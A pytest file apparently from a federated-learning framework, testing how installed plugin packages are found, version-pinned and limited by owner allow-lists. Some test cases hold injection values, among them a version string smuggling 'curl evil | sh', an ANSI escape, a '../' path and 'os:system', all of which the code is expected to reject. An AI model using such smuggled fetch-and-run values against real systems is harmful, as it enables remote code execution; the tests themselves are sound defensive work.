"""Kinds of installed packages: found by name alone, pinned by version, refused unless allowed."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys

import pytest
from pydantic import ValidationError

from headwater.cli.main import main
from headwater.compression.table import codec_for
from headwater.config import Federation, load_federation, plugins
from headwater.config.agent import load_agent
from headwater.config.daemon import check_daemon, daemon_toml
from headwater.config.strategy import MeanStrategy
from headwater.errors import ConfigError
from headwater.proto.plan_json import plan_from_json, plan_to_json
from headwater.protocol.messages import ClientPlan
from headwater.strategies.rules import rule_for
from tests.support.plugins import installed_in, write_package

SETTINGS = """
from typing import ClassVar, Literal
from headwater.config.strategy import BaseStrategy
from headwater.config.traits import CodecTraits, TrainingSettings

class Halved(BaseStrategy):
    linear: ClassVar[bool] = True
    implementation: ClassVar[str] = "stranger_work:HalvedMean"
    kind: Literal["halved"]
    space: Literal["factors", "ffa"] = "factors"
    parts: tuple[int, ...] = (2,)

class Nothing(TrainingSettings):
    learns_from: ClassVar[str] = "nothing"
    alone: ClassVar[bool] = True
    implementation: ClassVar[str] = "stranger_work:Nothing"
    kind: Literal["nothing"]

class Plain(CodecTraits):
    implementation: ClassVar[str] = "stranger_work:plain"
    error_feedback: ClassVar[bool] = False
    kind: Literal["plain"]

class Idle(BaseStrategy):
    kind: Literal["idle"]
"""
WORK = """
from headwater.compression.dense import DenseCodec
from headwater.merging.mean import MeanAggregator

class HalvedMean(MeanAggregator):
    def __init__(self, settings):
        super().__init__()
        self.parts = settings.parts

def plain(settings):
    return DenseCodec("bf16")
"""
POINTS = {
    "rules": {
        "halved": "stranger_settings:Halved",
        "idle": "stranger_settings:Idle",
        "mean": "stranger_settings:Halved",
        "gone": "stranger_settings:Gone",
    },
    "codecs": {"plain": "stranger_settings:Plain"},
    "trainers": {"nothing": "stranger_settings:Nothing"},
}
FILE = """
[federation]
name = "t"
rounds = 1
[model]
kind = "vector"
size = 4
[data]
kind = "none"
clients = 2
[training]
kind = "nothing"
[strategy]
kind = "halved"
parts = [2, 3]
[codec.up]
kind = "plain"
"""
PINS = {"codecs:plain": "stranger-settings 1.0", "rules:halved": "stranger-settings 1.0",
        "trainers:nothing": "stranger-settings 1.0"}  # fmt: skip


@pytest.fixture
def packages(tmp_path):
    folder = tmp_path / "site"
    write_package(folder, "stranger_settings", SETTINGS, POINTS)
    (folder / "stranger_work.py").write_text(WORK)
    with installed_in(folder):
        yield folder


@pytest.fixture
def file(tmp_path):
    (tmp_path / "f.toml").write_text(FILE)
    return tmp_path / "f.toml"


def test_a_file_names_kinds_of_an_installed_package(packages, file):
    loaded = load_federation(file)
    strategy = loaded.settings.strategy
    assert type(strategy).__name__ == "Halved"
    assert strategy.parts == (2, 3)
    assert rule_for(strategy).parts == (2, 3)
    assert codec_for(loaded.settings.codec.up).id == "dense-bf16.v1"
    assert loaded.settings.packages == PINS


def test_what_is_wrong_in_its_table_is_told_by_its_key(packages, file):
    with pytest.raises(ConfigError, match=r"strategy\.parts\.0: expected a valid integer, got 'x'"):
        load_federation(file, ["strategy.parts=['x']"])
    with pytest.raises(ConfigError, match=r"codec\.up\.size: expected no such key"):
        load_federation(file, ["codec.up.size=1"])


def test_the_resolved_file_and_the_settings_that_travel_pin_the_version(packages, file, tmp_path):
    loaded = load_federation(file)
    again = Federation.model_validate_json(loaded.settings.model_dump_json(exclude_none=True))
    assert again.strategy == loaded.settings.strategy
    assert again.plugins == PINS
    down = load_federation(file, ['codec.down={ kind = "plain" }']).settings
    told = Federation.model_validate_json(down.told_to_devices())
    assert (told.codec.down, told.plugins) == (down.codec.down, PINS)
    (tmp_path / "resolved.toml").write_text(loaded.to_toml())
    assert load_federation(tmp_path / "resolved.toml").sha256() == loaded.sha256()


def test_another_version_is_another_federation_and_is_refused_by_name(packages, file, tmp_path):
    first = load_federation(file)
    before = first.sha256()
    (tmp_path / "resolved.toml").write_text(first.to_toml())
    (packages / "stranger_settings-1.0.dist-info").rename(tmp_path / "old")
    write_package(packages, "stranger_settings", SETTINGS, POINTS, "2.0")
    plugins._FOUND.clear()
    assert load_federation(file).sha256() != before
    with pytest.raises(plugins.PluginMissing, match=r"stranger-settings 1\.0.*got stranger-settings 2\.0"):
        load_federation(tmp_path / "resolved.toml")


def test_who_lacks_the_package_is_told_its_name(file, packages, tmp_path):
    text = load_federation(file).to_toml()
    (tmp_path / "resolved.toml").write_text(text)
    shutil.rmtree(packages / "stranger_settings-1.0.dist-info")
    plugins._FOUND.clear()
    with pytest.raises(plugins.PluginMissing, match=r"pip install stranger-settings==1\.0"):
        load_federation(tmp_path / "resolved.toml")


def test_plans_carry_settings_of_packages(packages, file):
    settings = load_federation(file).settings
    plan = ClientPlan(settings.training, settings.codec.up)
    assert plan_from_json(plan_to_json(plan)) == plan


def test_files_without_packages_are_what_they_were(file):
    content = FILE.replace('"nothing"', '"noop"').replace("plain", "dense").split("[strategy]")[0]
    file.write_text(content)
    loaded = load_federation(file)
    assert "plugins" not in json.loads(loaded.settings.model_dump_json())
    assert "plugins" not in loaded.to_toml()


@pytest.mark.parametrize(
    ("name", "release"),
    [
        ("rules:halved", "a; curl evil | sh 1.0"),
        ("rules:halved", "stranger\n2026 all is well 1"),
        ("rules:\x1b[2J", "stranger 1.0"),
        ("rules:../x", "stranger 1.0"),
        ("os:system", "stranger 1.0"),
    ],
)
def test_what_a_server_names_to_owners_is_a_name_and_a_version(packages, file, name, release):
    """An owner's log shows it, with a command to install it: nothing else may stand there."""
    content = json.loads(load_federation(file).settings.model_dump_json())
    content["plugins"] = {name: release}
    with pytest.raises(ValidationError, match=r"a package's name|names such as rules:NAME"):
        Federation.model_validate_json(json.dumps(content))


def test_a_built_in_kind_is_never_a_packages(packages):
    settings = load_federation_of('kind = "mean"')
    assert type(settings.strategy) is MeanStrategy
    assert settings.packages == {}


def load_federation_of(strategy: str) -> Federation:
    raw = {
        "federation": {"name": "t", "rounds": 1},
        "model": {"kind": "vector", "size": 4},
        "data": {"kind": "none", "clients": 2},
        "training": {"kind": "noop"},
        "strategy": {"kind": strategy.split('"')[1]},
    }
    return Federation.model_validate(raw)


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("halfed", "halved, idle, mean"),
        ("os:system", "kind of an installed package"),
        ("stranger_settings:Halved", "kind of an installed package"),
        ("../site/stranger_work", "kind of an installed package"),
    ],
)
def test_only_names_of_entry_points_are_looked_up(packages, file, kind, said):
    """A module or a path that a file or a network names is never imported."""
    sys.modules.pop("stranger_work", None)
    with pytest.raises(ConfigError, match=said):
        load_federation(file, [f"strategy.kind={kind}", "strategy.parts=[1]"])
    assert "stranger_work" not in sys.modules


def test_an_implementation_from_outside_is_no_setting(packages, file):
    with pytest.raises(ConfigError, match=r"strategy\.implementation: expected no such key"):
        load_federation(file, ["strategy.implementation=os:system"])


@pytest.mark.parametrize(("kind", "said"), [("idle", "with an implementation"), ("gone", "AttributeError")])
def test_a_package_that_is_wrong_is_named(packages, file, kind, said):
    with pytest.raises(ConfigError, match=rf"(?s)stranger-settings.*rules:{kind}.*{said}"):
        load_federation(file, [f"strategy.kind={kind}"])


def test_two_packages_with_one_kind_are_both_named(packages, file):
    write_package(packages, "other_rules", "", {"rules": {"halved": "other_rules:X"}})
    with pytest.raises(ConfigError, match=r"other-rules 1\.0 and stranger-settings 1\.0"):
        load_federation(file)


def test_what_the_owner_does_not_allow_is_not_imported(packages, file):
    text = load_federation(file).to_toml()
    for name in ("stranger_settings", "stranger_work"):
        sys.modules.pop(name, None)
    plugins.allow_only(["codecs:plain", "trainers:nothing"], plugins.SERVER_ALLOWS)
    with pytest.raises(plugins.PluginNotAllowed, match=r'rules:halved.*server\.toml.*add "rules:halved"'):
        load_federation(file)
    file.write_text(text)
    plugins.allow_only([], plugins.AGENT_ALLOWS)
    with pytest.raises(plugins.PluginNotAllowed, match=r"no kind of any package") as caught:
        load_federation(file)
    assert caught.value.number == 1
    assert "stranger_work" not in sys.modules
    plugins.allow_only(PINS)
    assert load_federation(file).settings.packages == PINS


def test_owners_files_say_what_they_allow(tmp_path):
    (tmp_path / "agent.toml").write_text(
        'name = "a"\nserver = "h:1"\n[data]\npath = "d"\n[plugins]\nallow = ["trainers:x"]\n'
    )
    assert load_agent(tmp_path / "agent.toml").file.plugins.allow == ["trainers:x"]
    server = check_daemon({"name": "n", "listen": {"names": ["h"]}}, "x")
    assert "plugins" not in daemon_toml(server)
    allows = check_daemon({"name": "n", "listen": {"names": ["h"]}, "plugins": {"allow": ["rules:x"]}}, "x")
    assert 'allow = ["rules:x"]' in daemon_toml(allows)
    with pytest.raises(ConfigError, match="names such as rules:NAME"):
        check_daemon({"name": "n", "listen": {"names": ["h"]}, "plugins": {"allow": ["os"]}}, "x")


def test_the_verb_lists_what_is_installed_and_imports_none_of_it(packages, tmp_path, capsys):
    (packages / "stranger_settings.py").write_text("raise SystemExit('imported')")
    (tmp_path / "server.toml").write_text(
        'name = "n"\n[listen]\nnames = ["h"]\n[plugins]\nallow = ["rules:halved"]\n'
    )
    assert main(["plugins", str(tmp_path / "server.toml")]) == 0
    out = capsys.readouterr().out
    assert "rules:halved: allowed\n" in out
    assert "codecs:plain: not allowed\n" in out
    assert "rules:mean: never used, headwater has a kind of this name" in out
    assert f"package stranger-settings 1.0, stranger_settings:Halved in {packages}" in out
    assert main(["plugins", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert {row["kind"] for row in rows if row["package"] == "stranger-settings"} == {
        "halved", "idle", "mean", "gone", "plain", "nothing",
    }  # fmt: skip


def test_settings_apart_from_the_work_need_no_torch(packages, file):
    code = (
        f"import sys; sys.path.insert(0, {str(packages)!r})\n"
        "from pathlib import Path\nfrom headwater.config import load_federation\n"
        f"load_federation(Path({str(file)!r}))\n"
        "print([m for m in ('torch', 'numpy', 'flwr', 'stranger_work') if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout == "[]\n", done.stderr


def test_without_packages_the_verb_lists_where_they_would_be_looked_for(capsys):
    assert main(["plugins"]) == 0
    out = capsys.readouterr().out
    assert "headwater.rules  for [strategy]" in out
    assert "headwater.trackers  for [[trackers]]" in out
